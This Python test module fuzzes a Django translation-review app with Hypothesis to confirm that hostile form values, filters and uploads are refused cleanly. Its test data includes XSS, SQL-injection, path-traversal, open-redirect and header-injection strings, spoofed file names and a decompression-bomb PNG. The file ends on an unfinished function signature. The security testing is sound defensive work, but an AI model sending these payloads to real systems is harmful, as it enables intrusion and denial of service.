"""Hostile input at every form, filter and import path (issue "Hardening: hostile input").

Hypothesis feeds each endpoint random Unicode, control characters, NUL bytes,
bidirectional overrides, combining marks, unpaired surrogates (as the bytes a
client can send, and as JSON escapes inside files), enormous strings, wrong
types (several values where one is expected, non-numeric and negative and
huge numbers), missing fields and, for uploads and imports, random and
malformed files. Every example checks the promises of invariant 8:

* the answer is never a 500 and no exception escapes the view;
* a refused input writes nothing: tracked rows, their history rows, the audit
  index and stored files are as they were;
* what is accepted is stored normalised: every history row the request wrote
  (the stored values of each changed row, and the reason) holds no control
  character other than tab and newline and no unpaired surrogate, and the
  text content people write (sources, translations, notes, comments,
  provenance) is NFC.

The number of examples each test tries is the argument of ``@hostile(...)``
(per parameter, for parametrised tests).
"""

import functools
import io
import itertools
import json
import os
import re
import struct
import unicodedata
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote
from xml.sax.saxutils import escape

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection, models
from django.db.models import Max
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image

from reviews.audit import KIND_LABELS
from reviews.models import AuditEvent
from reviews.services import comment_create
from tests.factories import make_document, make_project
from translations import services
from translations.archive import export_archive
from translations.exceptions import InvalidText
from translations.management.commands.verify_history import tracked_models
from translations.models import DocumentImage, Membership, Project, Segment, Translation


# HARDENING_EXAMPLES_SCALE=10 runs ten times the examples (a longer soak); the default keeps the file quick.
SCALE = float(os.environ.get("HARDENING_EXAMPLES_SCALE", "1"))


def hostile(examples: int):
    """Hypothesis settings for these tests: `examples` inputs tried, no deadline
    (a 1 MB body takes its time), nothing written to a .hypothesis directory."""
    return hypothesis_settings(
        max_examples=max(1, round(examples * SCALE)),
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


# --- Hostile values -----------------------------------------------------------------

MEGABYTE = 1 << 20
EDGE_NUMBERS = [0, -1, 1, 2**31 - 1, 2**31, 2**63 - 1, 2**63, 10**30, -(10**30)]
HOSTILE_PIECES = [
    "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[2J", "\x7f", "\x85", "\x9f",
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\ufeff", "\ufffe", "\uffff",
    "\ud800", "\udfff", "\ud83d", "e\u0301", "\u0301", "\u1100\u1161\u11a8", "\u11a8", "Å", "ﬁ",
    "\r\n", "\r", "\n", "\t", " ", "\u3000", "\u2028", "\u2029",
    "[illegible]", "[", "]", "[a|]", "[?]", "[?읽기]", "@translator", "@reviewer.", "@nobody", "@", "@@",
    "<script>alert(1)</script>", "{{ 7|add:1 }}", "%s%n", "'; DROP TABLE x;--", "../../etc/passwd",
    "1e999", "NaN", "-0", "٣", "²", "１２", "0x10", " 7 ", "+3", "1_000",
]
hostile_chars = st.characters(categories=("Cc", "Cf", "Cs", "Co", "Cn", "Mn", "Me", "Zs", "Zl", "Zp"))
hostile_text = st.lists(
    st.one_of(st.sampled_from(HOSTILE_PIECES), st.text(max_size=10), st.text(hostile_chars, max_size=4)),
    max_size=5,
).map("".join)
# Mostly acceptable text: any assigned character but C0/C1 controls, combining marks and RTL included.
plain_text = st.text(st.characters(exclude_categories=("Cc", "Cs", "Cn")), min_size=1, max_size=40)
numbers = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(EDGE_NUMBERS).map(str),
    st.just("9" * 5000),  # more digits than int() converts
)
raw_value = st.one_of(plain_text, hostile_text, numbers, st.binary(max_size=24))


@dataclass(frozen=True)
class Live:
    """A value known only when the example runs (a current version, an id): ``template.format(**context)``."""

    template: str


def field(good=None):
    """One form field's values: usually one, sometimes missing, sometimes several (a list where a string is expected)."""
    one = raw_value if good is None else st.one_of(good, good, raw_value)
    single = st.lists(one, min_size=1, max_size=1)
    return st.one_of(single, single, single, st.just([]), st.lists(one, min_size=2, max_size=3))


junk_fields = st.lists(
    st.tuples(st.one_of(hostile_text, st.sampled_from(["id", "pk", "user", "csrfmiddlewaretoken"])), raw_value),
    max_size=2,
)


@st.composite
def form(draw, **fields):
    """(name, value) pairs as a browser or a script could post them."""
    pairs = [(name, value) for name, strategy in fields.items() for value in draw(strategy)]
    return pairs + draw(junk_fields)


def live(*templates):
    return st.sampled_from([Live(t) for t in templates])


def version(key="version"):
    """A version field: the current one, one off, or nonsense."""
    return field(good=st.one_of(live(f"{{{key}}}"), live(f"{{{key}}}", f"{{{key}_next}}", f"{{{key}_previous}}")))


def resolved(pairs, context):
    return [(name, value.template.format(**context) if isinstance(value, Live) else value) for name, value in pairs]


def as_bytes(value) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")


def urlencoded(pairs) -> str:
    return "&".join(f"{quote(as_bytes(name), safe='')}={quote(as_bytes(value), safe='')}" for name, value in pairs)


def path_safe(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return bool(text) and "/" not in text


path_text = st.one_of(st.text(min_size=1, max_size=12), st.sampled_from(HOSTILE_PIECES)).filter(path_safe)
HTMX = {"HX-Request": "true"}


# --- What a request may and may not leave behind --------------------------------------

CONTENT_FIELDS = {
    "translations.Segment": {"source_text"},
    "translations.Translation": {"text", "note", "published_text"},
    "translations.Document": {
        "title", "description", "obtained_from", "obtained_when", "obtained_where", "obtained_by",
        "reference_number", "sensitivity_notes",
    },
    "reviews.Comment": {"body"},
    "reviews.Review": {"text", "source_text", "comment"},
}


@functools.cache
def tracked():
    return tuple(tracked_models())


def stored_files() -> list[str]:
    """Files in media storage, staged imports aside (those are kept between preview and confirmation)."""
    root = Path(settings.MEDIA_ROOT)
    if not root.exists():
        return []
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() and p.relative_to(root).parts[0] != "imports")


@functools.cache
def _census_query() -> tuple[str, list[str]]:
    """One SELECT of every tracked table's row count, its history's row count and
    latest history_id, and the audit index's count and latest id."""
    quote_name = connection.ops.quote_name
    columns, names = [], []
    for model in tracked():
        table, history = quote_name(model._meta.db_table), quote_name(model.history.model._meta.db_table)
        columns += [f"(SELECT COUNT(*) FROM {table})", f"(SELECT COUNT(*) FROM {history})",
                    f"(SELECT MAX(history_id) FROM {history})"]
        names += [model._meta.label, f"{model._meta.label} history", f"{model._meta.label} latest"]
    events = quote_name(AuditEvent._meta.db_table)
    columns += [f"(SELECT COUNT(*) FROM {events})", f"(SELECT MAX(id) FROM {events})"]
    names += ["AuditEvent", "AuditEvent latest"]
    return "SELECT " + ", ".join(columns), names


def state() -> dict:
    sql, names = _census_query()
    with connection.cursor() as cursor:
        cursor.execute(sql)
        counts = dict(zip(names, cursor.fetchone()))
    counts["files"] = stored_files()
    return counts


def marks(census: dict | None = None) -> dict:
    census = census or state()
    since = {model: census[f"{model._meta.label} latest"] or 0 for model in tracked()}
    since[AuditEvent] = census["AuditEvent latest"] or 0
    return since


def problem_with(value: str, *, allowed: str, nfc: bool) -> str:
    for index, char in enumerate(value):
        category = unicodedata.category(char)
        if category == "Cc" and char not in allowed:
            return f"control character U+{ord(char):04X} at {index}"
        if category == "Cs":
            return f"unpaired surrogate U+{ord(char):04X} at {index}"
    if nfc and not unicodedata.is_normalized("NFC", value):
        return "not NFC"
    return ""


def _text_fields(model):
    return [f.attname for f in model._meta.concrete_fields if isinstance(f, (models.CharField, models.TextField))]


def assert_stored_clean(since: dict, *, allowed="\t\n", nfc=True):
    """Every history row (and audit event) written since `since` holds clean text."""
    for model in tracked():
        label, history = model._meta.label, model.history.model
        content = CONTENT_FIELDS.get(label, set()) if nfc else set()
        for row in history.objects.filter(history_id__gt=since[model]).values(*_text_fields(history)):
            for name, value in row.items():
                if value and (problem := problem_with(value, allowed=allowed, nfc=name in content)):
                    raise AssertionError(f"{label}.{name} was stored as {value[:120]!r}: {problem}")
    for row in AuditEvent.objects.filter(id__gt=since[AuditEvent]).values(*_text_fields(AuditEvent)):
        for name, value in row.items():
            if value and (problem := problem_with(value, allowed=allowed, nfc=False)):
                raise AssertionError(f"AuditEvent.{name} was stored as {value[:120]!r}: {problem}")


def assert_answered(response, what: str):
    escaped = getattr(response, "exc_info", None)
    if escaped:
        raise AssertionError(f"{what}: {escaped[1]!r} escaped the view") from escaped[1]
    assert response.status_code < 500, f"{what} answered {response.status_code}"
    if getattr(response, "streaming", False):
        b"".join(response.streaming_content)


def difference(before: dict, after: dict) -> dict:
    return {key: (before.get(key), after.get(key)) for key in after if before.get(key) != after.get(key)}


def attempt(client, method, url, pairs=(), *, accepted=frozenset(), htmx=False, body=None, content_type=None):
    """Send one request and check it: never a 500, nothing written unless the
    answer is one of `accepted` (the statuses that mean "done"; None: any), and
    whatever was written is clean."""
    before = state()
    headers = HTMX if htmx else {}
    if method == "GET":
        query = urlencoded(pairs)
        response = client.get(f"{url}?{query}" if query else url, headers=headers)
    else:
        if body is None and any(len(value) > 50_000 for _, value in pairs):
            # Enormous values travel as multipart: percent-decoding megabytes takes the stdlib seconds.
            body, content_type = multipart([(name, None, value) for name, value in pairs])
        elif body is None:
            body, content_type = urlencoded(pairs), "application/x-www-form-urlencoded"
        response = client.generic(method, url, body, content_type=content_type, headers=headers)
    what = f"{method} {url}"
    assert_answered(response, what)
    changed = difference(before, state())
    if changed:
        if accepted is not None:
            assert response.status_code in accepted, (
                f"{what} answered {response.status_code} (a refusal) but wrote {changed}"
            )
        assert_stored_clean(marks(before))
    return response


# --- The material the requests aim at -----------------------------------------------------


def png_bytes(color=(20, 40, 60), size=(12, 8)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture
def world(project, document, people, admin_user):
    """A project with five segments, a submitted candidate and a draft, a
    comment and a page image; another project whose ids are guessed at; and a
    logged-in client per person, answering 500 instead of raising."""
    manager = people["manager"]
    services.segments_append_from_text(document=document, user=manager, text="넷째 줄이다.\n다섯째 줄이다.")
    segments = list(document.segments.order_by("position"))
    submitted = services.translation_create(
        segment=segments[0], user=people["translator"], language="en", text="The first line."
    )
    draft = services.translation_create(
        segment=segments[1], user=people["translator2"], language="en", text="The second line.", submit=False
    )
    comment_create(user=people["reviewer"], body="@translator is this right?", segment=segments[0])
    image = services.document_image_add(
        document=document, user=manager, upload=SimpleUploadedFile("page.png", png_bytes()), filename="page.png"
    )
    elsewhere = make_project(admin_user, slug="elsewhere", members={manager: "manager"})
    foreign_document = make_document(elsewhere, manager, title="Elsewhere")
    foreign_segment = foreign_document.segments.first()
    foreign_translation = services.translation_create(
        segment=foreign_segment, user=manager, language="en", text="Not yours."
    )
    users = {**people, "admin": admin_user, "anonymous": None}
    clients = {}

    def client(name):
        if name not in clients:
            clients[name] = Client(raise_request_exception=False)
            if users[name] is not None:
                clients[name].force_login(users[name])
        return clients[name]

    return SimpleNamespace(
        project=project, document=document, submitted=submitted, draft=draft, image=image, users=users,
        client=client, foreign_document=foreign_document, foreign_segment=foreign_segment,
        foreign_translation=foreign_translation,
    )


# The largest id an address can carry (<id:...> takes 18 digits; longer ones are 404
# before any view runs, see test_an_id_too_long_for_any_row_is_not_found_...).
MISSING_ID = 10**18 - 1


def pick(draw_index, ids: list[int], foreign: int):
    """A real id, another project's, or one that cannot exist."""
    if draw_index == "foreign":
        return foreign
    if draw_index == "missing":
        return MISSING_ID if ids else 1
    return ids[draw_index % len(ids)]


target = st.one_of(st.integers(0, 40), st.sampled_from(["foreign", "missing"]))
members = ["translator", "translator2", "reviewer", "reviewer2", "manager", "auditor", "outsider", "admin"]


def _plus_minus(name, value):
    return {name: value, f"{name}_next": value + 1, f"{name}_previous": value - 1}


# --- Documents ---------------------------------------------------------------------------

provenance = field(good=plain_text)
DOCUMENT_FIELDS = {
    "title": provenance,
    "description": provenance,
    "obtained_from": provenance,
    "obtained_when": provenance,
    "obtained_where": provenance,
    "obtained_by": provenance,
    "reference_number": provenance,
    "authenticity": field(good=st.sampled_from(["unverified", "authenticated", "disputed"])),
    "sensitivity_notes": provenance,
}


@hostile(50)
@given(pairs=form(**DOCUMENT_FIELDS), who=st.sampled_from(["manager", "manager", "admin", "translator", "outsider"]))
@example(pairs=[("title", "가" * MEGABYTE), ("authenticity", "unverified")], who="manager")
@example(pairs=[("title", "\ud800 lone"), ("authenticity", "unverified")], who="manager")
@example(pairs=[("title", "A"), ("title", "B"), ("authenticity", "unverified"), ("authenticity", "x")], who="manager")
@example(pairs=[("title", "e\u0301 \u202eevil"), ("authenticity", "unverified")], who="manager")
def test_document_create_refuses_hostile_provenance_cleanly(world, pairs, who):
    attempt(world.client(who), "POST", reverse("document_create", args=[world.project.slug]), pairs,
            accepted={302})


@hostile(30)
@given(
    pairs=form(**DOCUMENT_FIELDS, reason=field(good=plain_text)),
    document=st.sampled_from(["own", "foreign", "missing"]),
)
@example(pairs=[("title", "Notebook 2"), ("authenticity", "unverified"), ("reason", "\x1b[31mred")], document="own")
@example(pairs=[("title", "Notebook"), ("authenticity", "disputed"), ("reason", "x" * MEGABYTE)], document="own")
def test_document_edit_refuses_hostile_provenance_cleanly(world, pairs, document):
    document_id = {"own": world.document.pk, "foreign": world.foreign_document.pk, "missing": MISSING_ID}[document]
    attempt(world.client("manager"), "POST", reverse("document_edit", args=[world.project.slug, document_id]), pairs,
            accepted={302})


# --- Transcription ---------------------------------------------------------------------------

pasted = st.lists(st.one_of(plain_text, hostile_text), min_size=1, max_size=6).map("\n".join)


@hostile(40)
@given(
    pairs=form(text=field(good=pasted), mode=field(good=st.sampled_from(["line", "sentence"]))),
    htmx=st.booleans(),
)
@example(pairs=[("text", "가나다라. " * (MEGABYTE // 6)), ("mode", "sentence")], htmx=True)
@example(pairs=[("text", "줄\x00이다"), ("mode", "line")], htmx=True)
@example(pairs=[("text", "\ud800\n정상"), ("mode", "line")], htmx=True)
@example(pairs=[("text", "a\u0301\n\u1100\u1161"), ("mode", "line")], htmx=True)
def test_pasting_hostile_text_into_the_transcription(world, pairs, htmx):
    url = reverse("segments_paste", args=[world.project.slug, world.document.pk])
    attempt(world.client("translator"), "POST", url, pairs, htmx=htmx, accepted={200} if htmx else {302})


positions = field(good=st.integers(-3, 30).map(str))
SEGMENT_FORMS = {
    "segment_save": {"source_text": field(good=plain_text), "base_version": version()},
    "segment_split": {"at": positions, "base_version": version()},
    "segment_merge": {"base_version": version(), "next_base_version": version("following")},
    "segment_move": {"to_position": positions},
    "segment_delete": {"base_version": version()},
    "segment_restore": {},
    "segment_restore_version": {"version": version(), "base_version": version()},
}


@pytest.mark.parametrize("action", list(SEGMENT_FORMS))
@hostile(25)
@given(data=st.data(), which=target, who=st.sampled_from(["translator", "translator", "manager", "auditor", "outsider"]),
       htmx=st.booleans())
def test_segment_actions_with_bogus_positions_and_versions(world, action, data, which, who, htmx):
    pairs = data.draw(form(**SEGMENT_FORMS[action]), label="pairs")
    ids = list(Segment.objects.filter(document=world.document).order_by("id").values_list("id", flat=True))
    segment_id = pick(which, ids, world.foreign_segment.pk)
    segment = Segment.objects.filter(pk=segment_id).first()
    following = (
        Segment.objects.filter(document=segment.document, is_deleted=False, position__gt=segment.position)
        .order_by("position").first() if segment else None
    )
    context = {**_plus_minus("version", segment.version if segment else 1),
               **_plus_minus("following", following.version if following else 1)}
    if action == "segment_restore_version":
        htmx = True  # a refusal is then its status code; success is a 303 to the history page
        accepted = {303}
    else:
        accepted = {200} if htmx else {302}
    url = reverse(action, args=[world.project.slug, segment_id])
    attempt(world.client(who), "POST", url, resolved(pairs, context), htmx=htmx, accepted=accepted)


def test_a_huge_segment_save_is_refused_with_a_message(world):
    segment = world.document.segments.first()
    url = reverse("segment_save", args=[world.project.slug, segment.pk])
    response = attempt(world.client("translator"), "POST", url,
                       [("source_text", "가" * MEGABYTE), ("base_version", str(segment.version))], htmx=True)
    assert response.status_code == 400


# --- Translations --------------------------------------------------------------------------

TRANSLATION_FIELDS = {
    "text": field(good=plain_text),
    "note": field(good=st.one_of(st.just(""), plain_text)),
    "action": field(good=st.sampled_from(["submit", "draft", "save", ""])),
}


@hostile(40)
@given(
    pairs=form(**TRANSLATION_FIELDS),
    which=target,
    language=st.one_of(st.sampled_from(["en", "en", "en", "ko", "EN", "xx"]), path_text),
    who=st.sampled_from(["translator", "translator2", "reviewer", "manager", "admin", "auditor", "outsider"]),
    htmx=st.booleans(),
)
@example(pairs=[("text", "x" * MEGABYTE), ("action", "submit")], which=2, language="en", who="translator", htmx=True)
@example(pairs=[("text", "ok"), ("note", "\x07bell")], which=3, language="en", who="translator", htmx=True)
def test_translation_create_with_hostile_text_and_note(world, pairs, which, language, who, htmx):
    ids = list(Segment.objects.filter(document=world.document).order_by("id").values_list("id", flat=True))
    url = reverse("translation_create", args=[world.project.slug, pick(which, ids, world.foreign_segment.pk), language])
    attempt(world.client(who), "POST", url, pairs, htmx=htmx, accepted={200} if htmx else {302})


@hostile(40)
@given(
    pairs=form(**TRANSLATION_FIELDS, base_version=version()),
    which=target,
    who=st.sampled_from(["translator", "translator2", "reviewer", "admin", "auditor"]),
    htmx=st.booleans(),
)
def test_translation_save_with_hostile_text_and_base_version(world, pairs, which, who, htmx):
    ids = list(Translation.objects.filter(segment__document=world.document).order_by("id").values_list("id", flat=True))
    translation_id = pick(which, ids, world.foreign_translation.pk)
    translation = Translation.objects.filter(pk=translation_id).first()
    context = _plus_minus("version", translation.version if translation else 1)
    url = reverse("translation_save", args=[world.project.slug, translation_id])
    attempt(world.client(who), "POST", url, resolved(pairs, context), htmx=htmx, accepted={200} if htmx else {302})


@hostile(20)
@given(pairs=form(version=version(), base_version=version()), which=target)
def test_translation_restore_version_with_bogus_versions(world, pairs, which):
    ids = list(Translation.objects.filter(segment__document=world.document).order_by("id").values_list("id", flat=True))
    translation_id = pick(which, ids, world.foreign_translation.pk)
    translation = Translation.objects.filter(pk=translation_id).first()
    context = _plus_minus("version", translation.version if translation else 1)
    url = reverse("translation_restore_version", args=[world.project.slug, translation_id])
    attempt(world.client("manager"), "POST", url, resolved(pairs, context), htmx=True, accepted={303})


# --- Reviews ------------------------------------------------------------------------------------

decisions = st.sampled_from(["approve", "approve", "reject", "request_changes", "APPROVE", "approve ", ""])


@hostile(50)
@given(
    pairs=form(decision=field(good=decisions), version=version(), comment=field(good=plain_text),
               next=field(good=st.sampled_from(["/review/", "https://evil.example/", "//evil.example", "review_queue"]))),
    which=target,
    who=st.sampled_from(["reviewer", "reviewer2", "manager", "admin", "translator", "auditor", "outsider"]),
    htmx=st.booleans(),
)
@example(pairs=[("decision", "approve"), ("version", "1"), ("next", "nowhere")], which=0, who="reviewer", htmx=False)
@example(pairs=[("decision", "approve"), ("version", "1"), ("next", "/x\r\nSet-Cookie: a=b")], which=0,
         who="reviewer", htmx=False)
@example(pairs=[("decision", "reject"), ("version", "1"), ("comment", "가" * MEGABYTE)], which=0, who="reviewer",
         htmx=True)
def test_review_decide_with_hostile_decision_version_and_comment(world, pairs, which, who, htmx):
    ids = [world.submitted.pk, world.draft.pk]
    translation_id = pick(which, ids, world.foreign_translation.pk)
    translation = Translation.objects.filter(pk=translation_id).first()
    context = _plus_minus("version", translation.version if translation else 1)
    url = reverse("review_decide", args=[translation_id])
    response = attempt(world.client(who), "POST", url, resolved(pairs, context), htmx=htmx,
                       accepted={200} if htmx else {302})
    if response.status_code == 302:
        assert not response["Location"].startswith(("http:", "https:", "//")), response["Location"]


items = st.one_of(
    live("{submitted}:{submitted_version}", "{draft}:{draft_version}", "{foreign}:1", "{submitted}:{submitted_next}"),
    st.builds(lambda a, b: f"{a}:{b}", numbers, numbers),
    st.sampled_from(["1:²", "²:1", "1:", ":1", "1:1:1", "99999999999999999999999999999:1", "1:" + "9" * 5000]),
    raw_value,
)
QUEUE_FILTERS = {
    "project": field(good=st.sampled_from(["recovered-notes", "elsewhere"])),
    "document": field(good=live("{document}")),
    "language": field(good=st.just("en")),
    "translator": field(good=st.sampled_from(["translator", "translator2"])),
    "state": field(good=st.sampled_from(["submitted", "reviewed"])),
    "age": field(good=st.sampled_from(["1d", "3d", "7d", "30d"])),
}


@hostile(50)
@given(
    pairs=form(
        decision=field(good=decisions), comment=field(good=plain_text), scope=field(good=st.sampled_from(["all", "some"])),
        item=st.lists(items, max_size=4), **QUEUE_FILTERS,
    ),
    who=st.sampled_from(["reviewer", "reviewer2", "manager", "admin", "translator", "outsider"]),
    htmx=st.booleans(),
)
@example(pairs=[("decision", "approve"), ("item", "99999999999999999999999999999:1")], who="reviewer", htmx=False)
@example(pairs=[("decision", "approve"), ("item", "1:²")], who="reviewer", htmx=False)
def test_review_bulk_with_hostile_items_and_filters(world, pairs, who, htmx):
    submitted, draft = (Translation.objects.get(pk=t.pk) for t in (world.submitted, world.draft))
    context = {
        "submitted": submitted.pk, "submitted_version": submitted.version, "submitted_next": submitted.version + 1,
        "draft": draft.pk, "draft_version": draft.version, "foreign": world.foreign_translation.pk,
        "document": world.document.pk,
    }
    attempt(world.client(who), "POST", reverse("review_bulk"), resolved(pairs, context), htmx=htmx, accepted={302})


# --- Comments -------------------------------------------------------------------------------------

mention_bodies = st.builds(
    lambda name, text: f"@{name} {text}",
    st.one_of(st.sampled_from(["translator", "Translator", "reviewer.", "outsider", "nobody", "translator-"]), path_text),
    plain_text,
)


@hostile(50)
@given(
    pairs=form(body=field(good=st.one_of(plain_text, mention_bodies)),
               translation_id=field(good=live("{submitted}", "{draft}", "{foreign}"))),
    which=target,
    method=st.sampled_from(["POST", "POST", "POST", "GET"]),
    who=st.sampled_from(["translator", "reviewer", "manager", "auditor", "outsider"]),
    htmx=st.booleans(),
)
@example(pairs=[("body", "@translator " + "가" * MEGABYTE)], which=0, method="POST", who="reviewer", htmx=True)
@example(pairs=[("body", "@translator\x00 hi")], which=0, method="POST", who="reviewer", htmx=True)
@example(pairs=[("body", "hi"), ("translation_id", str(10**30))], which=0, method="POST", who="reviewer", htmx=True)
def test_comments_with_hostile_bodies_and_mentions(world, pairs, which, method, who, htmx):
    ids = list(Segment.objects.filter(document=world.document).order_by("id").values_list("id", flat=True))
    context = {"submitted": world.submitted.pk, "draft": world.draft.pk, "foreign": world.foreign_translation.pk}
    url = reverse("segment_comments", args=[world.project.slug, pick(which, ids, world.foreign_segment.pk)])
    attempt(world.client(who), method, url, resolved(pairs, context), htmx=htmx, accepted={200} if htmx else {302})


# --- Policy and notification settings ------------------------------------------------------------------

switch = field(good=st.sampled_from(["on", "", "true", "false", "0", "1"]))


@hostile(40)
@given(
    pairs=form(
        form=field(good=st.sampled_from(["policy", "final_editor"])),
        required_approvals=field(good=st.integers(-2, 12).map(str)),
        allow_self_approval=switch, final_stage_required=switch, translators_may_create_documents=switch,
        reason=field(good=plain_text), membership=field(good=live("{membership}", "{foreign_membership}")),
        is_final_editor=switch,
    ),
    who=st.sampled_from(["manager", "manager", "admin", "translator", "auditor"]),
)
@example(pairs=[("form", "final_editor"), ("membership", "abc")], who="manager")
@example(pairs=[("form", "final_editor"), ("membership", str(10**30))], who="manager")
@example(pairs=[("form", "policy"), ("required_approvals", "2"), ("reason", "\x1b[2Jwhy")], who="manager")
def test_project_policy_with_hostile_values(world, pairs, who):
    context = {
        "membership": Membership.objects.filter(project=world.project, user=world.users["reviewer"]).get().pk,
        "foreign_membership": Membership.objects.filter(project=world.foreign_document.project).first().pk,
    }
    url = reverse("project_policy", args=[world.project.slug])
    attempt(world.client(who), "POST", url, resolved(pairs, context), accepted={302})


@hostile(20)
@given(
    pairs=form(email_on_decision=switch, email_on_waiting_work=switch, email_on_mention=switch),
    who=st.sampled_from(members),
)
def test_notification_preferences_with_hostile_values(world, pairs, who):
    attempt(world.client(who), "POST", reverse("notification_preferences"), pairs, accepted={302})


# --- Filters and moments (GET) --------------------------------------------------------------------------

dates = st.one_of(
    st.dates().map(lambda d: d.isoformat()),
    st.sampled_from(["0001-01-01", "9999-12-31", "2024-02-30", "2024-13-01", "20240101", "2024-1-1", "-2024-01-01"]),
)
AUDIT_FILTERS = {
    "project": field(good=st.sampled_from(["recovered-notes", "elsewhere"])),
    "document": field(good=live("{document}")),
    "actor": field(good=st.sampled_from(["translator", "manager", "siteadmin"])),
    "kind": field(good=st.sampled_from(list(KIND_LABELS))),
    "action": field(good=st.sampled_from(["created", "changed", "deleted"])),
    "since": field(good=dates),
    "until": field(good=dates),
    "q": field(good=plain_text),
    "before": field(good=live("{event}")),
}


@hostile(40)
@given(
    pairs=form(**AUDIT_FILTERS),
    page=st.sampled_from(["audit_trail", "audit_trail", "audit_export.csv", "audit_export.jsonl"]),
    who=st.sampled_from(["auditor", "manager", "admin", "translator"]),
)
@example(pairs=[("q", "\x00")], page="audit_trail", who="auditor")
@example(pairs=[("actor", "a\x00b"), ("project", "\x00")], page="audit_export.csv", who="admin")
@example(pairs=[("since", "0001-01-01"), ("until", "9999-12-31"), ("before", str(10**30))], page="audit_trail",
         who="admin")
@example(pairs=[("q", "x" * MEGABYTE)], page="audit_trail", who="admin")
def test_audit_trail_and_export_filters(world, pairs, page, who):
    context = {"document": world.document.pk, "event": AuditEvent.objects.aggregate(m=Max("id"))["m"] or 1}
    name, _, fmt = page.partition(".")
    url = reverse(name, args=[fmt]) if fmt else reverse(name)
    attempt(world.client(who), "GET", url, resolved(pairs, context))


@hostile(15)
@given(fmt=path_text)
def test_audit_export_format_from_the_path(world, fmt):
    attempt(world.client("admin"), "GET", reverse("audit_export", args=[fmt]))


@hostile(40)
@given(pairs=form(**QUEUE_FILTERS, page=field(good=st.integers(-2, 5).map(str))),
       who=st.sampled_from(["reviewer", "manager", "admin", "translator", "outsider"]))
@example(pairs=[("translator", "\x00"), ("project", "a\x00"), ("language", "\x00")], who="reviewer")
@example(pairs=[("document", "9" * 18), ("page", str(10**30))], who="admin")
def test_review_queue_filters(world, pairs, who):
    attempt(world.client(who), "GET", reverse("review_queue"), resolved(pairs, {"document": world.document.pk}))


@hostile(30)
@given(pairs=form(q=field(good=plain_text), authenticity=field(good=st.sampled_from(["disputed", "unverified"])),
                  progress=field(good=st.sampled_from(["not_started", "in_progress", "complete"])),
                  page=field(good=st.integers(-2, 5).map(str))),
       who=st.sampled_from(["translator", "auditor", "admin"]))
@example(pairs=[("q", "\x00")], who="translator")
def test_dashboard_filters(world, pairs, who):
    attempt(world.client(who), "GET", reverse("project_dashboard", args=[world.project.slug]), pairs)


moments = st.one_of(
    st.datetimes(timezones=st.one_of(st.none(), st.timezones())).map(lambda d: d.isoformat()),
    st.sampled_from([
        "0001-01-01T00:00", "9999-12-31T23:59:59+14:00", "1000-01-01T00:00-12:00", "2024-05-01 14:30 09:00",
        "2024-05-01T14:30+99:99", "2024-02-30T00:00", "now", "1714567890", "2024-05-01T25:00",
    ]),
)


@hostile(40)
@given(pairs=form(at=field(good=moments)), who=st.sampled_from(["translator", "auditor", "admin", "outsider"]))
@example(pairs=[("at", "0001-01-01T00:00:00+14:00")], who="auditor")
@example(pairs=[("at", "9998-12-31T23:59:59-12:00")], who="auditor")
def test_document_as_of_with_hostile_moments(world, pairs, who):
    url = reverse("document_as_of", args=[world.project.slug, world.document.pk])
    attempt(world.client(who), "GET", url, pairs)


@hostile(20)
@given(
    view=st.sampled_from(["document_export", "approved_rendering", "document_packet_docx", "document_packet_html",
                          "workspace"]),
    language=st.one_of(st.just("en"), path_text),
    fmt=st.one_of(st.sampled_from(["xliff", "po", "csv", "json", "tmx"]), path_text),
)
def test_export_and_rendering_paths_with_hostile_languages_and_formats(world, view, language, fmt):
    args = [world.project.slug, world.document.pk, language] + ([fmt] if view == "document_export" else [])
    attempt(world.client("auditor"), "GET", reverse(view, args=args))


@hostile(20)
@given(pairs=form(username=field(good=st.sampled_from(["translator", "Translator"])),
                  password=field(),
                  next=field(good=st.sampled_from(["/", "//evil.example", "https://evil.example/"]))))
def test_login_with_hostile_credentials(world, pairs):
    attempt(world.client("anonymous"), "POST", reverse("login"), pairs, accepted=None)


# --- Page images -------------------------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../etc/passwd", "..", ".", "/etc/passwd", "C:\\Windows\\evil.png", "page\x00.png", "page.png\x00.exe",
    "\u202egnp.exe", "page\u202e.png", "x" * 5000 + ".png", "名前.png", "e\u0301.png", "<img src=x onerror=1>.png",
    "a\r\nContent-Type: text/html.png", 'quote".png', "%2e%2e%2fpasswd.png", "\ud800.png", "", " ", "CON.png",
]


def bomb_png() -> bytes:
    """A tiny PNG whose header claims 100 000 × 100 000 pixels."""
    data = bytearray(png_bytes((1, 1, 1), (1, 1)))
    header = struct.pack(">II", 100_000, 100_000) + bytes(data[24:29])
    data[16:29] = header
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + header) & 0xFFFFFFFF)
    return bytes(data)


@st.composite
def page_images(draw):
    kind = draw(st.sampled_from(["png", "png", "truncated", "garbage", "bytes", "bomb", "gif", "empty"]))
    color = tuple(draw(st.integers(0, 255)) for _ in range(3))
    if kind == "png":
        return png_bytes(color)
    if kind == "truncated":
        data = png_bytes(color)
        return data[: draw(st.integers(1, len(data) - 1))]
    if kind == "garbage":
        return png_bytes(color) + draw(st.binary(min_size=1, max_size=64))
    if kind == "bomb":
        return bomb_png()
    if kind == "gif":
        buffer = io.BytesIO()
        Image.new("RGB", (4, 4), color).save(buffer, format="GIF")
        return buffer.getvalue()
    if kind == "empty":
        return b""
    return draw(st.binary(max_size=512))


def multipart(parts) -> tuple[bytes, str]:
